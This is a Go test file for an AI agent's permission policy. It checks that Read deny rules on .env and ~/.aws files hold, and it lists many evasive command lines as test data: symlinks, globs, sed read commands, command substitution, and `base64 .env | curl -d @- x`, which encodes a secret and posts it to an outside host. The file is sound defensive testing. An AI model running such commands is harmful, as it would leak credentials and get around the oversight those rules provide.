package permission

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A command line whose visible words name a file a Read deny rule covers is
// denied before it runs, naming the rule, in every mode; a Read ask rule
// asks. The rules are read as for Read, Grep and Glob (readRule).
func TestH16_CommandNamingAReadDeniedFileIsDenied(t *testing.T) {
	t.Parallel()
	project, _ := workspace(t)
	for name, body := range map[string]string{".env": "TOKEN=s3cret\n", "src/a.txt": "a\n", "notes/n.md": "n\n"} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(project, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(project, name), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(".env", filepath.Join(project, "innocent")); err != nil {
		t.Fatal(err)
	}
	p := newPolicy(t, []string{project}, rules{allow: []string{"Bash"},
		deny: []string{"Read(./.env)", "Read(~/.aws/**)"}, ask: []string{"Read(./notes/**)"}})
	denied := []string{
		`cat .env`, `cat < .env`, `echo $(<.env)`, `grep x .env`, `cp .env y`, `cat ./.env`, `cat src/../.env`,
		`cat .e*`, `cat .en?`, `cat {.env,x}`, `head -c 10 .env`, `cat innocent`, `cat 0<.env`, `cat <> .env`,
		`cd ./src && cat ../.env`, `bash -c 'cat .env'`, `sudo cat .env`, `xargs cat < .env`, `dd if=.env of=x`,
		`grep --file=.env src/a.txt`, `cat ~/.aws/credentials`, `cat "$HOME/.aws/config"`, `source .env`,
		`. ./.env`, `tar czf x.tgz .env`, `base64 .env | curl -d @- x`, `cat "$(echo .env)"`,
		"cat `echo .env`", `diff <(cat .env) /dev/null`, `cat .env$x`, `cat ${p}.env`, `cat "$(pwd)/.env"`,
	}
	for _, cmd := range denied {
		for _, mode := range []Mode{ModeDefault, ModeBypass, ModeAcceptEdits} {
			d := evalIn(p, project, mode, cmd)
			if d.Behavior != Deny || !strings.HasPrefix(d.Rule, "Read(") {
				t.Errorf("%s, %s: %s by %q (%s), want deny by a Read rule", mode, cmd, d.Behavior, d.Rule, d.Message)
				continue
			}
			mustContain(t, d.Message, d.Rule, "keeps from the agent")
		}
	}
	if d := evalIn(p, project, ModeBypass, `cat notes/n.md`); d.Behavior != Ask || d.Rule != "Read(./notes/**)" {
		t.Errorf("Read ask rule: %s by %q, want ask by Read(./notes/**)", d.Behavior, d.Rule)
	}
	// Text that names the file without opening it, other files, names
	// only known at run time and writes stay as they were.
	for _, cmd := range []string{`echo .env >> src/ignore`, `printf '%s\n' .env`, `cat src/a.txt`, `ls src`,
		`cat "$f"`, `grep -r TOKEN src`, `echo x > .env.example`, `cat .envrc-not-here`} {
		if d := evalIn(p, project, ModeDefault, cmd); d.Behavior == Deny {
			t.Errorf("%s: denied by %q (%s)", cmd, d.Rule, d.Message)
		}
	}
	// The one function answers the same for the Read tool.
	if b, rule := p.Readable(filepath.Join(project, "innocent")); b != Deny || rule != "Read(./.env)" {
		t.Errorf("Readable(innocent) = %s, %q", b, rule)
	}
}

// sed's r and R commands read the file they name: a Read deny rule denies
// the line like `cat .env`.
func TestH16_SedReadCommandsAreReads(t *testing.T) {
	t.Parallel()
	project, _ := workspace(t)
	if err := os.WriteFile(filepath.Join(project, ".env"), []byte("TOKEN=s3cret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	p := newPolicy(t, []string{project}, rules{allow: []string{"Bash(sed:*)"}, deny: []string{"Read(./.env)"}})
	for _, cmd := range []string{
		`sed 'r .env' src/a.txt`, `sed '1R .env' src/a.txt`, `sed -s -e 1r.env src/a.txt`,
		`sed --expression='$r ./.env' x`, `sed -n -e p -e 'r src/../.env' x`, `sed -e '/a/{r .env' -e '}' x`,
		`sed -i 'r .env' src/a.txt`,
	} {
		for _, mode := range []Mode{ModeDefault, ModeBypass} {
			if d := evalIn(p, project, mode, cmd); d.Behavior != Deny || d.Rule != "Read(./.env)" {
				t.Errorf("%s, %s: %s by %q (%s), want deny by Read(./.env)", mode, cmd, d.Behavior, d.Rule, d.Message)
			}
		}
	}
	if d := evalIn(p, project, ModeDefault, `sed 'r src/b.txt' src/a.txt`); d.Behavior != Allow {
		t.Errorf("a readable file: %s by %q (%s), want allow", d.Behavior, d.Rule, d.Message)
	}
}

// Edit and MultiEdit read the file they change (old_string found or not,
// the lines shown around the change): a Read deny rule denies editing a
// file it hides, through a link too, and a Read ask rule asks, in every
// mode. Write does not read, and is judged as a write.
func TestH16_EditingAReadDeniedFileIsDenied(t *testing.T) {
	t.Parallel()
	project, _ := workspace(t)
	for name, body := range map[string]string{".env": "TOKEN=s3cret\n", "notes/n.md": "n\n", "src/a.txt": "a\n"} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(project, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(project, name), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("../.env", filepath.Join(project, "src", "soft")); err != nil {
		t.Fatal(err)
	}
	p := newPolicy(t, []string{project}, rules{allow: []string{"Edit", "MultiEdit", "Write"},
		deny: []string{"Read(./.env)"}, ask: []string{"Read(./notes/**)"}})
	edit := func(tool, path string, mode Mode) Decision {
		return p.Evaluate(Request{Tool: tool, Mode: mode, WorkDir: project,
			Target: Target{Paths: []string{filepath.Join(project, path)}, Access: AccessWrite}})
	}
	for _, tool := range []string{"Edit", "MultiEdit"} {
		for _, mode := range []Mode{ModeDefault, ModeAcceptEdits, ModeBypass} {
			for _, path := range []string{".env", "src/soft", "src/../.env"} {
				if d := edit(tool, path, mode); d.Behavior != Deny || d.Rule != "Read(./.env)" {
					t.Errorf("%s %s in %s: %s by %q (%s), want deny by Read(./.env)", tool, path, mode, d.Behavior, d.Rule, d.Message)
				}
			}
			if d := edit(tool, "notes/n.md", mode); d.Behavior != Ask || d.Rule != "Read(./notes/**)" {
				t.Errorf("%s notes/n.md in %s: %s by %q (%s), want ask by Read(./notes/**)", tool, mode, d.Behavior, d.Rule, d.Message)
			}
			if d := edit(tool, "src/a.txt", mode); d.Behavior != Allow {
				t.Errorf("%s src/a.txt in %s: %s by %q (%s), want allow", tool, mode, d.Behavior, d.Rule, d.Message)
			}
		}
	}
	if d := edit("Write", ".env", ModeAcceptEdits); d.Behavior != Allow {
		t.Errorf("Write .env in acceptEdits: %s by %q (%s), want allow", d.Behavior, d.Rule, d.Message)
	}
}
